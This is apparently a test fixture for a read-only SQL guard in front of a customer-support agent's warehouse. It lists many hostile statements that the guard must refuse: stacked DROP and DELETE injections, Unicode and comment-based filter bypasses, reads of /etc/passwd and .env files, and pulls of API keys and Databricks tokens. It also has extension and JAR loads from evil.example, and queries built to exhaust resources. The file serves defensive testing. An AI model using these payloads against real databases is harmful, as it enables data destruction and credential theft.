Hostile statements: every entry must be refused by ReadOnlySqlGuard.
Each entry starts with a line "#### <what it tries> => <part of the expected reason>";
the statement is every line up to the next "####" line. Statements never contain "####".
The guard under test allows customer_suppport_agent.raw.orders with a row limit of 1000.

#### stacked: DROP after a SELECT => only one statement
SELECT * FROM orders; DROP TABLE orders

#### stacked: DELETE without a space => only one statement
SELECT 1;DELETE FROM orders

#### stacked: UPDATE on a later line => only one statement
SELECT * FROM orders;

UPDATE orders SET status = 'delivered'

#### stacked: ATTACH another database => only one statement
SELECT * FROM orders WHERE status = 'x'; ATTACH '/tmp/evil.db' AS evil

#### stacked: two trailing semicolons => only one statement
SELECT 1;;

#### stacked: leading semicolon => only one statement
; SELECT 1

#### stacked: INSTALL after a comment => only one statement
SELECT * FROM orders; -- just a comment
INSTALL httpfs

#### stacked: second SELECT of another table => only one statement
SELECT * FROM orders WHERE sku = 'abc' ; SELECT * FROM message_feedback

#### stacked: semicolon hidden after a block comment => only one statement
SELECT * FROM orders /* ; */ ; DELETE FROM orders

#### stacked: transaction around a DELETE => only one statement
BEGIN; DELETE FROM orders; COMMIT

#### stacked: parenthesised CTE then DROP => only one statement
(WITH a AS (SELECT 1) SELECT * FROM a) ; DROP TABLE orders

#### stacked: backslash-escaped quote read differently by DuckDB => ends in different places
SELECT 'a\'; DROP TABLE orders; --' FROM orders

#### stacked: backslash in a double-quoted name => ends in different places
SELECT "x\"; DROP TABLE orders; --" FROM orders

#### stacked: Spark raw string with a trailing backslash => ends in different places
SELECT r'\'; DROP TABLE orders; --' FROM orders

#### DDL: DROP TABLE => found DROP
DROP TABLE orders

#### DDL: lower-case drop => found DROP
drop table orders

#### DML: DELETE => found DELETE
DELETE FROM orders WHERE 1=1

#### DML: INSERT SELECT => found INSERT
INSERT INTO orders SELECT * FROM orders

#### DML: UPDATE => found UPDATE
UPDATE orders SET refund_amount = 0

#### DML: MERGE => found MERGE
MERGE INTO orders t USING orders s ON t.order_id = s.order_id WHEN MATCHED THEN DELETE

#### DDL: CREATE TABLE AS => found CREATE
CREATE TABLE stolen AS SELECT * FROM orders

#### DDL: CREATE OR REPLACE VIEW => found CREATE
CREATE OR REPLACE VIEW v AS SELECT 1

#### DDL: ALTER TABLE => found ALTER
ALTER TABLE orders ADD COLUMN pwned INT

#### DDL: TRUNCATE => found TRUNCATE
TRUNCATE TABLE orders

#### DML: REPLACE INTO => found REPLACE
REPLACE INTO orders VALUES (1)

#### command: COPY table to a file => found COPY
COPY orders TO '/tmp/orders.csv'

#### command: COPY query to a bucket => found COPY
COPY (SELECT * FROM orders) TO 's3://bucket/x.parquet' (FORMAT parquet)

#### command: CALL => found CALL
CALL pragma_version()

#### command: EXECUTE IMMEDIATE => found EXECUTE
EXECUTE IMMEDIATE 'DROP TABLE orders'

#### command: SET a setting => found SET
SET enable_external_access = true

#### command: RESET => found RESET
RESET ALL

#### command: USE => found USE
USE customer_suppport_agent.raw

#### command: ATTACH => found ATTACH
ATTACH 'postgres:dbname=prod' AS prod (TYPE postgres)

#### command: DETACH => found DETACH
DETACH prod

#### command: PRAGMA => found PRAGMA
PRAGMA database_list

#### command: INSTALL => found INSTALL
INSTALL httpfs

#### command: LOAD => found LOAD
LOAD httpfs

#### command: FORCE INSTALL from a URL => found FORCE
FORCE INSTALL httpfs FROM 'http://evil.example/'

#### command: GRANT => found GRANT
GRANT ALL PRIVILEGES ON orders TO attacker

#### command: REVOKE => found REVOKE
REVOKE SELECT ON orders FROM analyst

#### command: OPTIMIZE => found OPTIMIZE
OPTIMIZE orders ZORDER BY (order_ts)

#### command: VACUUM => found VACUUM
VACUUM orders RETAIN 0 HOURS

#### command: CHECKPOINT => found CHECKPOINT
CHECKPOINT

#### command: EXPORT DATABASE => found EXPORT
EXPORT DATABASE '/tmp/dump'

#### command: IMPORT DATABASE => found IMPORT
IMPORT DATABASE '/tmp/dump'

#### command: REFRESH TABLE => found REFRESH
REFRESH TABLE orders

#### command: MSCK REPAIR => found MSCK
MSCK REPAIR TABLE orders

#### command: ANALYZE => found ANALYZE
ANALYZE TABLE orders COMPUTE STATISTICS

#### command: CACHE TABLE => found CACHE
CACHE TABLE orders

#### command: UNCACHE TABLE => found UNCACHE
UNCACHE TABLE orders

#### command: ADD JAR from a URL => found ADD
ADD JAR 'http://evil.example/x.jar'

#### catalog: DESCRIBE => found DESCRIBE
DESCRIBE orders

#### catalog: SHOW TABLES => found SHOW
SHOW TABLES

#### catalog: SUMMARIZE => found SUMMARIZE
SUMMARIZE orders

#### catalog: EXPLAIN ANALYZE => found EXPLAIN
EXPLAIN ANALYZE SELECT * FROM orders

#### shape: bare VALUES => found VALUES
VALUES (1), (2)

#### shape: TABLE shorthand => found TABLE
TABLE orders

#### shape: PIVOT statement => found PIVOT
PIVOT orders ON carrier USING count(*)

#### comment: unterminated block comment => unterminated /* comment
SELECT 1 /* unterminated

#### comment: nested comment hiding a DROP from non-nesting lexers => nested /* comments
SELECT 1 /* /* */ ; DROP TABLE orders; /* */ */

#### comment: Spark line-comment continuation => may not end with a backslash
SELECT * FROM orders -- note \
'
; DROP TABLE orders; -- '

#### comment: block comment before DROP => found DROP
/* harmless */ DROP TABLE orders

#### comment: line comment pretending to be a SELECT => found DELETE
-- SELECT
DELETE FROM orders

#### comment: comment hides the end of a line, not the separator => only one statement
SELECT * FROM orders WHERE 1=1 --
; DROP TABLE orders

#### comment: comment splitting a keyword => found DR
DR/**/OP TABLE orders

#### case: mixed-case DELETE => found DELETE
DeLeTe FROM orders

#### whitespace: tabs and newlines around a stacked DROP => only one statement
	SELECT 1;
	dRoP	table orders

#### case: mixed-case UNION into another table => table 'users'
sElEcT * FrOm OrDeRs WhErE 1=1 UnIoN SeLeCt * FrOm UsErS

#### case: mixed-case INSERT after a CTE => INSERT may not be used
WITH x AS (SELECT 1) iNsErT INTO orders SELECT * FROM x

#### unicode: fullwidth DROP => U+FF24
ＤＲＯＰ TABLE orders

#### unicode: Greek question mark as a separator => U+037E
SELECT * FROM orders; DROP TABLE orders

#### unicode: fullwidth semicolon => U+FF1B
SELECT 1；DROP TABLE orders

#### unicode: Cyrillic E in DELETE => U+0415
DЕLETE FROM orders

#### unicode: Cyrillic o in a table name => U+043E
SELECT * FROM оrders

#### unicode: zero-width space before a separator => U+200B
SELECT * FROM orders​; DROP TABLE orders

#### unicode: no-break space between tokens => U+00A0
SELECT * FROM orders

#### unicode: right-to-left override in a comment => U+202E
SELECT * FROM orders /* ‮; DROP TABLE orders */

#### unicode: look-alike table name in quotes => is not one of the allowed tables
SELECT * FROM "оrders"

#### CTE: DELETE RETURNING => DELETE may not be used
WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone

#### CTE: UPDATE RETURNING => UPDATE may not be used
WITH x AS (UPDATE orders SET status = 'cancelled' RETURNING order_id) SELECT * FROM x

#### CTE: INSERT RETURNING => INSERT may not be used
WITH x AS (INSERT INTO orders SELECT * FROM orders RETURNING 1) SELECT 1

#### CTE: Spark INSERT OVERWRITE after WITH => INSERT may not be used
WITH src AS (SELECT * FROM orders) INSERT OVERWRITE TABLE orders SELECT * FROM src

#### CTE: MERGE after WITH => MERGE may not be used
WITH src AS (SELECT * FROM orders) MERGE INTO orders USING src ON 1=1 WHEN MATCHED THEN DELETE

#### CTE: DELETE as the main statement => DELETE may not be used
WITH t AS (SELECT 1) DELETE FROM orders

#### CTE: DROP as a second CTE => DROP may not be used
WITH a AS (SELECT * FROM orders), b AS (DROP TABLE orders) SELECT * FROM a

#### SELECT INTO a new table => INTO may not be used
SELECT * INTO stolen FROM orders

#### SELECT INTO OUTFILE => INTO may not be used
SELECT order_id INTO OUTFILE '/tmp/x' FROM orders

#### file: read_csv => function read_csv may not be used
SELECT * FROM read_csv('/etc/passwd')

#### file: read_csv_auto => function read_csv_auto may not be used
SELECT * FROM read_csv_auto('/etc/passwd', header = false)

#### file: read_parquet from a bucket => function read_parquet may not be used
SELECT * FROM read_parquet('s3://bucket/secret/*.parquet')

#### URL: read_json => function read_json may not be used
SELECT * FROM read_json('https://evil.example/x.json')

#### file: read_text => function read_text may not be used
SELECT * FROM read_text('/home/app/.env')

#### file: glob => function glob may not be used
SELECT * FROM glob('/home/*')

#### file: Databricks read_files => function read_files may not be used
SELECT * FROM read_files('/Volumes/main/secret/')

#### file: DuckDB replacement scan by path => files may not be read by path
SELECT * FROM '/etc/passwd'

#### URL: DuckDB replacement scan by URL => files may not be read by path
SELECT * FROM 'https://evil.example/data.csv'

#### file: read_csv joined to orders => function read_csv may not be used
SELECT * FROM orders o JOIN read_csv('/tmp/x.csv') x ON true

#### file: read_parquet in a scalar subquery => function read_parquet may not be used
SELECT (SELECT count(*) FROM read_parquet('x.parquet')) FROM orders

#### file: parquet_scan => function parquet_scan may not be used
SELECT * FROM parquet_scan('/data/*.parquet')

#### file: quoted function name => function read_csv may not be used
SELECT * FROM "READ_CSV"('/etc/passwd')

#### file: schema-qualified function name => function read_csv may not be used
SELECT * FROM main.read_csv('/etc/passwd')

#### file: read_csv inside TABLE() => function read_csv may not be used
SELECT * FROM TABLE(read_csv('/etc/passwd'))

#### file: sniff_csv => function sniff_csv may not be used
SELECT * FROM sniff_csv('/etc/passwd')

#### file: Spark path-based query => may only hold
SELECT * FROM json.`/mnt/secret/data.json`

#### URL: http_get => function http_get may not be used
SELECT * FROM http_get('https://evil.example')

#### SQL in a string: query() => function query may not be used
SELECT * FROM query('DROP TABLE orders')

#### SQL in a string: query_table() => function query_table may not be used
SELECT * FROM query_table('message_feedback')

#### catalog: duckdb_secrets() => function duckdb_secrets may not be used
SELECT * FROM duckdb_secrets()

#### catalog: duckdb_settings() => function duckdb_settings may not be used
SELECT * FROM duckdb_settings()

#### catalog: pragma_table_info() => function pragma_table_info may not be used
SELECT * FROM pragma_table_info('message_feedback')

#### JVM: reflect => function reflect may not be used
SELECT reflect('java.lang.Runtime', 'getRuntime')

#### JVM: java_method reading the environment => function java_method may not be used
SELECT java_method('java.lang.System', 'getenv', 'DATABRICKS_TOKEN')

#### secret: Databricks secret() => function secret may not be used
SELECT secret('prod', 'token')

#### secret: getenv => function getenv may not be used
SELECT getenv('OPENAI_API_KEY')

#### secret: current_setting => function current_setting may not be used
SELECT current_setting('s3_secret_access_key')

#### program: Spark TRANSFORM USING a script => USING with a script
SELECT TRANSFORM(order_id) USING 'cat /etc/passwd' AS (line) FROM orders

#### table function: IDENTIFIER() naming another table => table function identifier may not be used
SELECT * FROM IDENTIFIER('message_feedback')

#### table function: duckdb_tables() => function duckdb_tables may not be used
SELECT * FROM duckdb_tables()

#### table function: table_changes() => function table_changes may not be used
SELECT * FROM table_changes('orders', 0)

#### table function: unknown user function => table function my_udtf may not be used
SELECT * FROM my_udtf(1)

#### table: feedback table => table 'message_feedback'
SELECT * FROM message_feedback

#### table: three-part name of another table => table 'customer_suppport_agent.raw.message_feedback'
SELECT * FROM customer_suppport_agent.raw.message_feedback

#### table: JOIN to users => table 'users'
SELECT * FROM orders o JOIN users u ON o.customer_id = u.id

#### table: information_schema in a FROM list => table 'information_schema.tables'
SELECT * FROM orders, information_schema.tables

#### table: IN subquery => table 'secrets'
SELECT * FROM orders WHERE customer_id IN (SELECT customer_id FROM secrets)

#### table: system catalog => table 'system.information_schema.tables'
SELECT * FROM system.information_schema.tables

#### table: orders in another catalog => table 'other_catalog.raw.orders'
SELECT * FROM other_catalog.raw.orders

#### table: orders in another schema => table 'raw2.orders'
SELECT * FROM raw2.orders

#### table: CTE reading the table it shadows => table 'users'
WITH users AS (SELECT * FROM users) SELECT * FROM users

#### table: CTE of a subquery leaking to the outer query => table 'message_feedback'
SELECT * FROM (WITH message_feedback AS (SELECT * FROM orders) SELECT * FROM message_feedback) s, message_feedback

#### table: LATERAL subquery => table 'message_feedback'
SELECT * FROM orders, LATERAL (SELECT * FROM message_feedback) f

#### table: DuckDB FROM-first subquery => table 'message_feedback'
SELECT * FROM (FROM message_feedback)

#### table: subquery next to extract(... FROM ...) => table 'message_feedback'
SELECT extract(year FROM order_ts), (SELECT max(rating) FROM message_feedback) FROM orders

#### table: TABLE shorthand in a subquery => table 'message_feedback'
SELECT * FROM (TABLE message_feedback)

#### table: DuckDB PIVOT in a subquery => table 'message_feedback'
SELECT * FROM (PIVOT message_feedback ON rating USING count(*))

#### table: quoted name in EXISTS => table 'message_feedback'
SELECT * FROM orders WHERE EXISTS (SELECT 1 FROM "message_feedback")

#### table: backticked name => table 'message_feedback'
SELECT * FROM `message_feedback`

#### table: UNION ALL with a backup table => table 'orders_backup'
SELECT * FROM orders UNION ALL SELECT * FROM orders_backup

#### table: dotted name inside one pair of quotes => is not one of the allowed tables
SELECT * FROM "customer_suppport_agent.raw.orders"

#### table: NATURAL JOIN => table 'message_feedback'
SELECT * FROM orders NATURAL JOIN message_feedback

#### table: second entry of a FROM list => table 'orders_archive'
SELECT * FROM orders AS o, orders_archive AS a

#### table: Spark delta path table => table 'delta.secret_table'
SELECT * FROM delta.`secret_table`

#### table: recursive CTE without UNION reads the table it shadows => table 'message_feedback'
WITH RECURSIVE message_feedback AS (SELECT * FROM message_feedback) SELECT * FROM message_feedback

#### table: anchor of a recursive CTE reads the table it shadows => table 'message_feedback'
WITH RECURSIVE message_feedback AS (SELECT * FROM message_feedback UNION ALL SELECT * FROM message_feedback WHERE false) SELECT * FROM message_feedback

#### table: DuckDB FROM-first branch of a UNION => table 'message_feedback'
SELECT * FROM orders UNION ALL FROM message_feedback

#### table: TABLE shorthand as a scalar subquery => table 'message_feedback'
SELECT (TABLE message_feedback)

#### table: FROM-first subquery inside ANY() => table 'message_feedback'
SELECT * FROM orders WHERE order_id = ANY(FROM message_feedback)

#### table: DuckDB PIVOT_WIDER in a subquery => table 'message_feedback'
SELECT * FROM (PIVOT_WIDER message_feedback ON rating)

#### table: DuckDB UNPIVOT in a subquery => table 'message_feedback'
SELECT * FROM (UNPIVOT message_feedback ON rating)

#### table: comma after a DuckDB PIVOT clause => table 'message_feedback'
SELECT * FROM orders PIVOT (count(*) FOR carrier IN ('UPS')) AS p, message_feedback

#### table: comma after a join condition => table 'message_feedback'
SELECT * FROM orders a JOIN orders b ON a.order_id = b.order_id, message_feedback

#### catalog: DESCRIBE as a DuckDB subquery => DESCRIBE may not be used
SELECT * FROM (DESCRIBE message_feedback)

#### lexical: unterminated string => unterminated string literal
SELECT 'unterminated FROM orders

#### lexical: unterminated quoted identifier => unterminated quoted identifier
SELECT "unterminated FROM orders

#### lexical: unterminated dollar quote => unterminated dollar-quoted string
SELECT $$ unterminated

#### lexical: DuckDB identifier with dollars => '$' may not follow a name
SELECT a$$; DROP TABLE orders; $$ FROM orders

#### lexical: positional parameter => '$' may only open a dollar-quoted string
SELECT * FROM orders WHERE customer_id = $1

#### lexical: Spark variable substitution => '${' may not be used
SELECT '${env:DATABRICKS_TOKEN}'

#### lexical: number running into FROM => runs into a name
SELECT 1FROM message_feedback

#### lexical: backticks hiding a separator from Spark => may only hold
SELECT `a; DROP TABLE orders; --` FROM orders

#### lexical: unbalanced parentheses => unbalanced parentheses
SELECT (1 FROM orders

#### parenthesised: catalog view in parentheses after FROM => table 'pg_settings' is not one of the allowed tables
SELECT * FROM (pg_settings)

#### parenthesised: catalog function joined inside parentheses => table 'duckdb_databases' is not one of the allowed tables
SELECT * FROM (duckdb_databases LEFT JOIN orders ON false)

#### parenthesised: catalog table after JOIN => table 'sqlite_master' is not one of the allowed tables
SELECT o.order_id, s.sql FROM orders o JOIN (sqlite_master) s ON true

#### parenthesised: information_schema cross joined in parentheses => table 'information_schema.tables' is not one of the allowed tables
SELECT * FROM (information_schema.tables CROSS JOIN orders)

#### parenthesised: doubled parentheses around a catalog view => table 'duckdb_settings' is not one of the allowed tables
SELECT * FROM ((duckdb_settings))

#### parenthesised: catalog view in a nested join tree => table 'pg_class' is not one of the allowed tables
SELECT count(*) FROM orders a JOIN (orders b JOIN (pg_class) c ON true) ON true

#### parenthesised: catalog view on the right of a comma list in parentheses => DuckDB does not read it as one SELECT query
SELECT * FROM (orders, duckdb_views)

#### parenthesised: catalog view in a lateral join => table 'duckdb_columns' is not one of the allowed tables
SELECT * FROM orders, LATERAL (SELECT * FROM (duckdb_columns)) c

#### subquery: catalog view in a scalar subquery of the select list => table 'duckdb_secrets' is not one of the allowed tables
SELECT (SELECT count(*) FROM (duckdb_secrets)) AS n FROM orders

#### subquery: catalog view in EXISTS => table 'pg_settings' is not one of the allowed tables
SELECT count(*) FROM orders WHERE EXISTS (SELECT 1 FROM (pg_settings) WHERE name = 'home_directory')

#### subquery: catalog view in ORDER BY => table 'duckdb_tables' is not one of the allowed tables
SELECT order_id FROM orders ORDER BY (SELECT count(*) FROM (duckdb_tables))

#### set operation: catalog view in parentheses after UNION => table 'duckdb_settings' is not one of the allowed tables
SELECT order_id FROM orders UNION ALL (SELECT name FROM (duckdb_settings))

#### set operation: catalog view after EXCEPT => table 'pg_settings' is not one of the allowed tables
SELECT carrier FROM orders EXCEPT SELECT name FROM (pg_settings)

#### qualified: catalog view under the main schema => table 'main.duckdb_tables' is not one of the allowed tables
SELECT * FROM (main.duckdb_tables)

#### qualified: another schema's table of the same name => table 'other.orders' is not one of the allowed tables
SELECT * FROM (other.orders)

#### qualified: the orders name under the system catalog => table 'system.main.orders' is not one of the allowed tables
SELECT * FROM (system.main.orders)

#### string SQL: json_execute_serialized_sql => table function json_execute_serialized_sql may not be used
SELECT * FROM orders WHERE 1 = (SELECT count(*) FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1')))

#### string SQL: serialized SQL run from the select list => function json_execute_serialized_sql is not on the list
SELECT json_execute_serialized_sql(json_serialize_sql('SELECT * FROM duckdb_settings()')) FROM orders

#### string SQL: query() in parentheses => function query may not be used
SELECT * FROM (query('SELECT * FROM duckdb_settings()'))

#### string SQL: query_table() in a join => function query_table may not be used
SELECT * FROM orders JOIN query_table('duckdb_tables') t ON true

#### string SQL: json_serialize_sql alone leaks the parser's view => function json_serialize_sql is not on the list
SELECT json_serialize_sql('SELECT 1') FROM orders

#### string SQL: current_setting of the home directory => function current_setting may not be used
SELECT current_setting('home_directory') FROM orders

#### functions: a qualified system function => functions are called by their plain name
SELECT pg_catalog.lower(carrier) FROM orders

#### functions: a macro-like function off the allow-list => function duckdb_extensions may not be used
SELECT * FROM orders WHERE (SELECT count(*) FROM duckdb_extensions()) > 0

#### functions: version leaks the engine => function version is not on the list
SELECT version() FROM orders

#### functions: repeat multiplies a value => function repeat is not on the list
SELECT repeat('x', 100000) AS s FROM orders

#### functions: lpad widens a value => function lpad is not on the list
SELECT lpad(carrier, 100000000, 'x') FROM orders

#### functions: format with a huge width => function format is not on the list
SELECT format('{:>100000000}', carrier) FROM orders

#### functions: range as a scalar builds a huge list => function range is not on the list
SELECT range(1000000000) FROM orders

#### functions: list_transform with a lambda => lambda expression
SELECT list_transform([1, 2, 3], x -> x + 1) FROM orders

#### CTE: recursive CTE named like a catalog view whose body ends in EXCEPT => table 'duckdb_tables' is not one of the allowed tables
WITH RECURSIVE duckdb_tables AS (SELECT * FROM duckdb_tables EXCEPT SELECT * FROM duckdb_tables WHERE false)
SELECT * FROM duckdb_tables

#### CTE: plain CTE named like a catalog view reads the view in its own body => table 'pg_settings' is not one of the allowed tables
WITH pg_settings AS (SELECT * FROM pg_settings) SELECT * FROM pg_settings

#### CTE: CTE named like the information_schema view => has the name of a table or view of the warehouse
WITH tables AS (SELECT 1 AS x) SELECT * FROM tables

#### CTE: CTE named like the allowed table hides it => has the name of a table or view of the warehouse
WITH orders AS (SELECT 1 AS order_id) SELECT * FROM orders

#### CTE: inner CTE named like a catalog view used outside its scope => table 'sqlite_master' is not one of the allowed tables
SELECT * FROM (WITH sqlite_master AS (SELECT 1 AS x) SELECT * FROM orders) o, sqlite_master

#### CTE: materialized CTE reading a catalog view => table 'duckdb_settings' is not one of the allowed tables
WITH s AS MATERIALIZED (SELECT * FROM (duckdb_settings)) SELECT * FROM s

#### CTE: never-ending recursion => WITH RECURSIVE may not be used
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r

#### describe: DESCRIBE as a subquery => DESCRIBE may not be used
SELECT * FROM (DESCRIBE orders)

#### describe: SUMMARIZE as a subquery => SUMMARIZE may not be used
SELECT * FROM (SUMMARIZE orders)

#### time travel: AT clause => AT clauses
SELECT * FROM orders AT (VERSION => 1)

#### resource: parentheses nested 40 deep => parentheses nest 40 deep
SELECT ((((((((((((((((((((((((((((((((((((((((1)))))))))))))))))))))))))))))))))))))))) FROM orders

#### resource: 40 self-joins => the query names tables 40 times
SELECT count(*) FROM orders a0 JOIN orders a1 ON true JOIN orders a2 ON true JOIN orders a3 ON true JOIN orders a4 ON true JOIN orders a5 ON true JOIN orders a6 ON true JOIN orders a7 ON true JOIN orders a8 ON true JOIN orders a9 ON true JOIN orders a10 ON true JOIN orders a11 ON true JOIN orders a12 ON true JOIN orders a13 ON true JOIN orders a14 ON true JOIN orders a15 ON true JOIN orders a16 ON true JOIN orders a17 ON true JOIN orders a18 ON true JOIN orders a19 ON true JOIN orders a20 ON true JOIN orders a21 ON true JOIN orders a22 ON true JOIN orders a23 ON true JOIN orders a24 ON true JOIN orders a25 ON true JOIN orders a26 ON true JOIN orders a27 ON true JOIN orders a28 ON true JOIN orders a29 ON true JOIN orders a30 ON true JOIN orders a31 ON true JOIN orders a32 ON true JOIN orders a33 ON true JOIN orders a34 ON true JOIN orders a35 ON true JOIN orders a36 ON true JOIN orders a37 ON true JOIN orders a38 ON true JOIN orders a39 ON true

#### resource: a statement over the length limit => characters; at most 100000 may run
SELECT count(*) FROM orders WHERE support_note = 'lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel lost parcel 